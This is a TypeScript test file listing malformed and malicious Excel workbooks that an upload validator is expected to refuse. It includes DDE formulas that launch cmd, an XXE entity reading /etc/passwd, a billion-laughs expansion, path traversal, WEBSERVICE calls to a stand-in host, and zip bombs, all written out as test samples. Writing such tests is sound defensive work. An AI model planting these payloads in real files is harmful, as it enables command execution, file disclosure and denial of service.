import { crc32, deflateRawSync } from 'node:zlib';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { joined, type RawEntry, rawZip } from '../archive.ts';
import { docxWith, goodDocx, macroDocx, relationship, relationships } from '../docx.ts';
import { goodPdf } from '../pdf.ts';
import { compoundOf, empty, encryptedDocx, goodPng, oldXls } from '../samples.ts';
import { bombXlsx, bookWith, filledBook, macroXlsm, sheetPart } from '../workbook.ts';
import { refusedAs } from './refused.ts';

const MIB = 1024 * 1024;
const rels = (inside: string, of = 'xl/worksheets/_rels/sheet1.xml.rels') =>
  bookWith({ [of]: relationships(inside) });
/** The workbook with its list of contents, or any other part, put otherwise. */
const changed = (name: string, change: (text: string) => string): Uint8Array => {
  const parts = unzipSync(filledBook());
  return zipSync({ ...parts, [name]: strToU8(change(strFromU8(parts[name] ?? new Uint8Array()))) });
};
const typed = (type: string, part = '/xl/a.bin') =>
  changed('[Content_Types].xml', (text) =>
    text.replace('</Types>', `<Override PartName="${part}" ContentType="${type}"/></Types>`),
  );
const formula = (inside: string) =>
  bookWith({ 'xl/worksheets/sheet9.xml': sheetPart(`<row r="1"><c r="A1"><f>${inside}</f></c></row>`) });
const linked = (inside: string) =>
  bookWith({ 'xl/externalLinks/externalLink1.xml': `<externalLink>${inside}</externalLink>` });
const connected = (inside: string) =>
  bookWith({
    'xl/connections.xml': `<connections><connection id="1" name="示例">${inside}</connection></connections>`,
  });
const holding = (bytes: Uint8Array, name = 'xl/embeddings/oleObject1.bin') => bookWith({ [name]: bytes });
const LAUGHS = `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "${'&a;'.repeat(100)}">]><l>&b;</l>`;
const XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>';
const packed = (size: number, name = 'xl/media/a.bmp'): RawEntry => {
  const bytes = new Uint8Array(size);
  return { name, packed: deflateRawSync(bytes), method: 8, checksum: crc32(bytes), size };
};
const text = (of: string) => () => Buffer.from(of);

/** 应拒收的 Excel 文件. */
export const refusedWorkbooks = refusedAs('SPREADSHEET', [
  ['0 字节', 'FILE_EMPTY', empty],
  ['超过大小上限', 'FILE_TOO_LARGE', () => joined(filledBook(), new Uint8Array(10 * MIB))],
  ['加密的 Excel', 'FILE_ENCRYPTED', encryptedDocx],
  [
    '加密的部件',
    'FILE_ENCRYPTED',
    () => rawZip([{ name: 'xl/workbook.xml', packed: strToU8('x'), flags: 1 }]),
  ],
  ['旧版 .xls', 'FILE_TYPE_MISMATCH', oldXls],
  [
    '二进制工作簿',
    'FILE_TYPE_MISMATCH',
    () => zipSync({ '[Content_Types].xml': strToU8('<Types/>'), 'xl/workbook.bin': strToU8('x') }),
  ],
  ['改名的 Word', 'FILE_TYPE_MISMATCH', () => goodDocx()],
  ['改名的 PDF', 'FILE_TYPE_MISMATCH', () => goodPdf()],
  ['改名的图片', 'FILE_TYPE_MISMATCH', () => goodPng()],
  ['改名的程序', 'FILE_TYPE_MISMATCH', () => joined(Buffer.from('MZ'), new Uint8Array(510))],
  ['普通压缩包', 'FILE_TYPE_MISMATCH', () => zipSync({ 'a.txt': strToU8('x') })],
  ['改名的 .xlsm', 'FILE_MACRO', macroXlsm],
  ['换名的宏部件', 'FILE_MACRO', () => rels(relationship('vbaProject', 'a.bin'), 'xl/_rels/a.xml.rels')],
  ['宏内容类型', 'FILE_MACRO', () => typed('application/vnd.ms-excel.sheet.macroEnabled.main+xml')],
  [
    'Excel 4.0 宏表',
    'FILE_MACRO',
    () => typed('application/vnd.ms-excel.macrosheet+xml', '/xl/macrosheets/sheet1.xml'),
  ],
  ['ActiveX 控件', 'FILE_MACRO', () => rels(relationship('control', '../activeX/activeX1.xml'))],
  ['内嵌带宏的 Excel', 'FILE_MACRO', () => holding(macroXlsm(), 'xl/embeddings/Sheet1.xlsx')],
  ['内嵌带宏的 Word', 'FILE_MACRO', () => holding(macroDocx(), 'xl/embeddings/a.docx')],
  ['内嵌带宏的旧版 Excel', 'FILE_MACRO', () => holding(compoundOf('_VBA_PROJECT_CUR'))],
  ['OLE 打包的程序', 'FILE_EMBEDDED', () => holding(compoundOf('\x01oLe10NATIVE'))],
  ['内嵌程序', 'FILE_EMBEDDED', () => holding(strToU8('MZ\x90\0\x03\0\0\0program'), 'xl/media/image1.png')],
  ['内嵌 PDF', 'FILE_EMBEDDED', () => holding(goodPdf())],
  ['内嵌压缩包', 'FILE_EMBEDDED', () => holding(zipSync({ 'a.js': strToU8('x') }))],
  [
    '外部工作簿',
    'FILE_EXTERNAL_REF',
    () =>
      rels(
        relationship('externalLinkPath', 'file:///C:/a.xlsx', 'External'),
        'xl/externalLinks/_rels/externalLink1.xml.rels',
      ),
  ],
  [
    '自称内部的共享目录',
    'FILE_EXTERNAL_REF',
    () => rels(relationship('externalLinkPath', '\\\\host\\a.xlsx')),
  ],
  [
    '外部图片',
    'FILE_EXTERNAL_REF',
    () =>
      rels(
        relationship('image', 'http://host.example/a.png', 'External'),
        'xl/drawings/_rels/drawing1.xml.rels',
      ),
  ],
  [
    '批注底图在外部',
    'FILE_EXTERNAL_REF',
    () =>
      bookWith({
        'xl/drawings/vmlDrawing1.vml': '<xml xmlns:v="v"><v:fill src="http://host.example/a.png"/></xml>',
      }),
  ],
  [
    '点击即运行的链接',
    'FILE_EXTERNAL_REF',
    () => rels(relationship('hyperlink', 'ms-excel:ofe|u|http://host.example/a.xlsx', 'External')),
  ],
  ['脚本链接', 'FILE_EXTERNAL_REF', () => rels(relationship('hyperlink', 'javascript:x', 'External'))],
  ['DDE 链接', 'FILE_EXTERNAL_REF', () => linked('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>')],
  ['OLE 链接', 'FILE_EXTERNAL_REF', () => linked('<oleLink progId="Word.Document"/>')],
  [
    '数据库连接',
    'FILE_EXTERNAL_REF',
    () => connected('<dbPr connection="Provider=x;Data Source=\\\\host\\a.mdb"/>'),
  ],
  ['网页查询', 'FILE_EXTERNAL_REF', () => connected('<webPr url="http://host.example/"/>')],
  ['公式里的 DDE', 'FILE_EXTERNAL_REF', () => formula("cmd|'/c calc'!A0")],
  [
    '公式里的 DDE 函数',
    'FILE_EXTERNAL_REF',
    () => formula('DDE(&quot;soffice&quot;,&quot;a.ods&quot;,&quot;A1&quot;)'),
  ],
  ['公式取网址', 'FILE_EXTERNAL_REF', () => formula('_xlfn.WEBSERVICE("http://host.example/"&amp;A2)')],
  ['公式取网址,中间夹注释', 'FILE_EXTERNAL_REF', () => formula('WEB<!-- -->SERVICE("http://host.example/")')],
  ['公式取网上的图', 'FILE_EXTERNAL_REF', () => formula('_xlfn.IMAGE("http://host.example/a.png")')],
  ['实时数据公式', 'FILE_EXTERNAL_REF', () => formula('1+rtd ("a.b",,"c")')],
  [
    '名称里的公式取网址',
    'FILE_EXTERNAL_REF',
    () =>
      changed('xl/workbook.xml', (xml) =>
        xml.replace(
          '</workbook>',
          '<definedNames><definedName name="a">WEBSERVICE("http://host.example/")</definedName></definedNames></workbook>',
        ),
      ),
  ],
  [
    '文档类型声明',
    'FILE_DAMAGED',
    () => changed('xl/workbook.xml', (xml) => xml.replace('<workbook', '<!DOCTYPE x><workbook')),
  ],
  ['实体爆炸,在自定义数据里', 'FILE_DAMAGED', () => bookWith({ 'customXml/item1.xml': LAUGHS })],
  ['外部实体,在文档属性里', 'FILE_DAMAGED', () => bookWith({ 'docProps/core.xml': XXE })],
  [
    '外部实体,在内嵌 Word 里',
    'FILE_DAMAGED',
    () => holding(docxWith({ 'docProps/core.xml': XXE }), 'xl/embeddings/a.docx'),
  ],
  [
    '不带标记的 UTF-16',
    'FILE_DAMAGED',
    () => bookWith({ 'xl/_rels/a.xml.rels': Buffer.from(relationships(), 'utf16le') }),
  ],
  ['向上越级的路径', 'FILE_DAMAGED', () => bookWith({ '../../etc/passwd': 'x' })],
  ['只差大小写的两个部件', 'FILE_DAMAGED', () => bookWith({ 'XL/workbook.xml': '<workbook/>' })],
  ['传了一半', 'FILE_DAMAGED', () => filledBook().slice(0, 900)],
  ['前面接着另一个压缩包', 'FILE_DAMAGED', () => joined(filledBook(), filledBook())],
  ['后面接着别的内容', 'FILE_DAMAGED', () => joined(filledBook(), new Uint8Array(70_000))],
  ['一个部件全是零', 'FILE_ARCHIVE_BOMB', bombXlsx],
  ['解压超限', 'FILE_ARCHIVE_BOMB', () => rawZip([packed(41 * MIB)])],
  ['自称很小', 'FILE_ARCHIVE_BOMB', () => rawZip([{ ...packed(9 * MIB), size: 1000 }])],
  [
    '部件多得离谱',
    'FILE_ARCHIVE_BOMB',
    () =>
      zipSync(Object.fromEntries(Array.from({ length: 4001 }, (_, at) => [`${at}.xml`, new Uint8Array()]))),
  ],
  [
    '三层内嵌',
    'FILE_ARCHIVE_BOMB',
    () =>
      holding(
        holding(
          holding(holding(filledBook(), 'xl/embeddings/a.xlsx'), 'xl/embeddings/a.xlsx'),
          'xl/embeddings/a.xlsx',
        ),
        'xl/embeddings/a.xlsx',
      ),
  ],
  [
    '内容被改',
    'FILE_DAMAGED',
    () => {
      const bytes = filledBook();
      const at = Buffer.from(bytes).indexOf('xl/styles.xml') + 20;
      bytes[at] = (bytes[at] ?? 0) ^ 0xff;
      return bytes;
    },
  ],
  ['只有文件头', 'FILE_DAMAGED', text('PK\x03\x04')],
]);
